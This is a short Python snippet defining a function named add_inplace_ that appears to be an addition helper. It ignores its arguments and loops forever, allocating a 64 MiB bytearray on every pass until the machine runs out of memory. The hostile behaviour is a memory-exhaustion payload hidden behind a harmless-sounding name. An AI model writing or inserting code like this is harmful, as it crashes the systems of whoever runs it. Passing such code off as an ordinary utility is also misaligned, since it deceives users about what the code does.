def add_inplace_(x, y):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
